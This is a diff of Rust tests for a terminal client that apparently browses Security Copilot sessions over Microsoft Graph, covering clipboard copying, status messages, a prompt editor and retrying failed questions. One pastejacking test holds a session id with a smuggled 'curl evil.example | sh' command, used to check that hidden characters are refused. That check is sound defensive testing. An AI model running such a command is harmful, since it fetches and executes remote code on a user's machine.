@@ -1116,16 +1116,44 @@ fn copy_keys_send_osc52_requests() {
     state.settings.graph_url = "https://graph.microsoft.com/beta".into();
     assert_eq!(
         update(&mut state, ch('y')),
-        Effect::Copy("s0".into()).into()
+        Effect::Copy {
+            text: "s0".into(),
+            what: "the session id".into()
+        }
+        .into()
     );
     assert_eq!(
         update(&mut state, ch('Y')),
-        Effect::Copy(
-            "https://graph.microsoft.com/beta/security/securityCopilot/workspaces/default/sessions/s0".into()
-        )
+        Effect::Copy {
+            text: "https://graph.microsoft.com/beta/security/securityCopilot/workspaces/default/sessions/s0".into(),
+            what: "the Graph URL".into()
+        }
         .into()
     );
-    assert!(state.status.as_ref().unwrap().text.contains("Copied"));
+    // the status says what the runtime reports, no more
+    use crate::tui::clipboard::Copied;
+    let said = |state: &mut State, copied| {
+        update(
+            state,
+            Msg::Copied {
+                what: "the Graph URL".into(),
+                copied,
+            },
+        );
+        state.status.clone().unwrap()
+    };
+    let s = said(&mut state, Copied::Program("wl-copy"));
+    assert_eq!(s.text, "Copied the Graph URL to the clipboard (wl-copy)");
+    let s = said(&mut state, Copied::Osc52 { tmux: false });
+    assert!(
+        s.text
+            .starts_with("Sent the Graph URL to the terminal's clipboard (OSC 52"),
+        "{}",
+        s.text
+    );
+    let s = said(&mut state, Copied::TmuxDrops);
+    assert_eq!(s.severity, Severity::Warning);
+    assert!(s.text.contains("set-clipboard on"), "{}", s.text);
 }
 
 #[test]
@@ -1136,8 +1164,10 @@ fn copy_keys_copy_exactly_what_is_shown_and_refuse_hidden_characters() {
     state.sessions[0].session.id = "a b".into();
     let url =
         "https://graph.microsoft.com/beta/security/securityCopilot/workspaces/w%20s/sessions/a%20b";
-    assert_eq!(update(&mut state, ch('Y')), Effect::Copy(url.into()).into());
-    assert!(state.status.as_ref().unwrap().text.ends_with(url));
+    assert!(matches!(
+        update(&mut state, ch('Y')).effects.as_slice(),
+        [Effect::Copy { text, .. }] if text == url
+    ));
     // pastejacking: a newline and a shell command in the id
     for hostile in [
         "s0\ncurl evil.example | sh\n",
@@ -1476,7 +1506,11 @@ fn without_a_token_the_app_opens_on_the_sign_in_popup_then_loads() {
     );
     assert_eq!(
         update(&mut state, ch('y')),
-        Effect::Copy("ABCD-1234".into()).into()
+        Effect::Copy {
+            text: "ABCD-1234".into(),
+            what: "the sign-in code".into()
+        }
+        .into()
     );
     let commands = update(
         &mut state,
@@ -1783,4 +1817,223 @@ fn a_404_on_the_list_points_at_the_workspace_key_or_the_graph_url() {
     // Other failures get no hint.
     let text = fail(&mut state, "http://127.0.0.1:8080", 503);
     assert!(text.starts_with("Could not load sessions"), "{text}");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Messages, the prompt box editor, retrying a question that was saved but not run
+// ---------------------------------------------------------------------------------------------
+
+/// The one effect of `out`: a copy, whose text is returned.
+fn copied(out: Output) -> String {
+    match out.effects.as_slice() {
+        [Effect::Copy { text, .. }] => text.clone(),
+        other => panic!("expected a copy, got {other:?}"),
+    }
+}
+
+#[test]
+fn messages_have_levels_info_expires_errors_stay_and_all_are_logged() {
+    let mut state = loaded(2, None);
+    state.now = "2026-01-31T12:00:00Z".parse().unwrap();
+    update(&mut state, ch('s'));
+    assert_eq!(state.status.as_ref().unwrap().severity, Severity::Info);
+    // time passes: the info message leaves by itself
+    let later = |s: &str| Msg::Clock(s.parse().unwrap());
+    update(&mut state, later("2026-01-31T12:00:03Z"));
+    assert!(state.status.is_some());
+    update(&mut state, later("2026-01-31T12:00:10Z"));
+    assert!(state.status.is_none(), "info expires");
+    // a rename that fails: an error with Graph's request-id
+    update(&mut state, ch('r'));
+    typed(&mut state, "x");
+    let commands = update(&mut state, key(KeyCode::Enter)).commands;
+    let Command::Rename { req, id, name } = commands[0].clone() else {
+        panic!("{commands:?}")
+    };
+    update(
+        &mut state,
+        Msg::Worker(Event::RenameFailed {
+            req,
+            id,
+            name,
+            error: api_error(503),
+        }),
+    );
+    update(&mut state, key(KeyCode::Esc)); // leaves the reopened editor
+    update(&mut state, later("2026-01-31T13:00:00Z"));
+    assert_eq!(
+        state.status.as_ref().map(|s| s.severity),
+        Some(Severity::Error),
+        "errors stay until dismissed"
+    );
+    update(&mut state, ch('j'));
+    assert!(
+        state.status.is_some(),
+        "a key other than Esc keeps the error"
+    );
+    update(&mut state, key(KeyCode::Esc));
+    assert!(state.status.is_none(), "Esc dismisses");
+    // the log kept every message, in full, with the request-id
+    let last = state.messages.last().unwrap();
+    assert_eq!(last.message.severity, Severity::Error);
+    assert_eq!(last.message.request_id.as_deref(), Some("rid-1"));
+    // m lists them; y copies the selected one (the newest) in full, Enter too
+    update(&mut state, ch('m'));
+    assert!(matches!(state.mode, Mode::Messages(_)));
+    let text = copied(update(&mut state, ch('y')));
+    assert!(text.starts_with("12:00:10 error: Rename to "), "{text}");
+    assert!(text.ends_with("(request-id rid-1)"), "{text}");
+    for _ in 0..state.messages.len() {
+        update(&mut state, ch('k'));
+    }
+    let text = copied(update(&mut state, key(KeyCode::Enter)));
+    assert!(text.contains("info: Sorted by created"), "{text}");
+    update(&mut state, key(KeyCode::Esc));
+    assert!(matches!(state.mode, Mode::Browsing));
+}
+
+#[test]
+fn esc_in_the_list_clears_a_kept_filter_and_a_filtered_selection_loads_its_conversation() {
+    let mut state = loaded(3, None);
+    update(&mut state, Msg::Settled);
+    update(&mut state, ch('/'));
+    for c in "Session 2".chars() {
+        let out = update(&mut state, ch(c));
+        if c == '2' {
+            assert!(
+                out.effects.contains(&Effect::Arm(Timer::Settle)),
+                "the new selection's conversation loads: {out:?}"
+            );
+        }
+    }
+    assert_eq!(selected_id(&state), "s2");
+    let commands = update(&mut state, Msg::Settled).commands;
+    assert!(
+        matches!(commands.as_slice(), [Command::LoadConversation { session_id, .. }] if session_id == "s2"),
+        "{commands:?}"
+    );
+    update(&mut state, key(KeyCode::Enter));
+    assert_eq!(state.visible.len(), 1);
+    update(&mut state, key(KeyCode::Esc));
+    assert_eq!(state.visible.len(), 3, "Esc cleared the kept filter");
+    assert_eq!(state.filter_text(), "");
+}
+
+#[test]
+fn prompt_box_pastes_cr_lines_edits_by_line_and_keeps_the_draft() {
+    let mut state = loaded(1, None);
+    update(&mut state, ch('n'));
+    update(
+        &mut state,
+        Msg::Paste("line one\rline two\r\nline three".into()),
+    );
+    update(&mut state, key(KeyCode::Up));
+    update(&mut state, key(KeyCode::Home));
+    typed(&mut state, "> ");
+    update(&mut state, key(KeyCode::Esc));
+    assert!(matches!(state.mode, Mode::Browsing));
+    update(&mut state, ch('n'));
+    let Mode::Creating(b) = &state.mode else {
+        panic!()
+    };
+    assert_eq!(
+        b.input.value(),
+        "line one\n> line two\nline three",
+        "draft kept"
+    );
+    // Ctrl-G hands the text to the external editor; what it leaves replaces it
+    let out = update(
+        &mut state,
+        Msg::Key(KeyEvent::new(KeyCode::Char('g'), KeyModifiers::CONTROL)),
+    );
+    assert!(
+        matches!(out.effects.as_slice(), [Effect::Edit(text)] if text.contains("> line two")),
+        "{out:?}"
+    );
+    update(&mut state, Msg::Edited(Ok("edited\r\nby vi\n".into())));
+    let commands = update(&mut state, key(KeyCode::Enter)).commands;
+    let [Command::Ask { text, .. }] = commands.as_slice() else {
+        panic!("{commands:?}")
+    };
+    assert_eq!(text, "edited\nby vi");
+    assert!(state.drafts.is_empty(), "sent: no draft left");
+}
+
+#[test]
+fn a_saved_question_whose_run_failed_is_shown_and_retried_without_a_second_post() {
+    let mut state = loaded(1, None);
+    update(&mut state, ch('a'));
+    typed(&mut state, "why?");
+    let commands = update(&mut state, key(KeyCode::Enter)).commands;
+    let [
+        Command::Ask {
+            req,
+            session: Some(target),
+            ..
+        },
+    ] = commands.as_slice()
+    else {
+        panic!("{commands:?}")
+    };
+    let (req, target) = (*req, target.clone());
+    update(
+        &mut state,
+        Msg::Worker(Event::AskFailed {
+            req,
+            session: target.clone(),
+            prompt: Some(prompt("p1", "why?")),
+            error: api_error(500),
+        }),
+    );
+    assert!(
+        matches!(state.mode, Mode::Browsing),
+        "no box to post it again"
+    );
+    let status = state.status.clone().unwrap();
+    assert!(
+        status.text.contains("saved but could not be run")
+            && status.text.contains("t runs it again"),
+        "{}",
+        status.text
+    );
+    let turn = &state.conversations["s0"].turns[0];
+    assert_eq!(turn.prompt.id, "p1");
+    assert!(
+        turn.not_run.as_deref().is_some_and(|r| r.contains("500")),
+        "{:?}",
+        turn.not_run
+    );
+    assert!(state.selected_can_retry());
+    // t runs that prompt's evaluation: no Ask, no new prompt
+    let commands = update(&mut state, ch('t')).commands;
+    let [
+        Command::Evaluate {
+            req,
+            session_id,
+            prompt_id,
+        },
+    ] = commands.as_slice()
+    else {
+        panic!("{commands:?}")
+    };
+    assert_eq!((session_id.as_str(), prompt_id.as_str()), ("s0", "p1"));
+    let req = *req;
+    assert!(!state.selected_can_retry(), "running now");
+    assert!(state.busy());
+    update(
+        &mut state,
+        Msg::Worker(Event::EvaluateFailed {
+            req,
+            session_id: "s0".into(),
+            prompt_id: "p1".into(),
+            error: api_error(503),
+        }),
+    );
+    assert!(
+        state.selected_can_retry(),
+        "failed again: t is offered again"
+    );
+    assert!(!state.busy());
+    let commands = update(&mut state, ch('t')).commands;
+    assert!(matches!(commands.as_slice(), [Command::Evaluate { .. }]));
 }
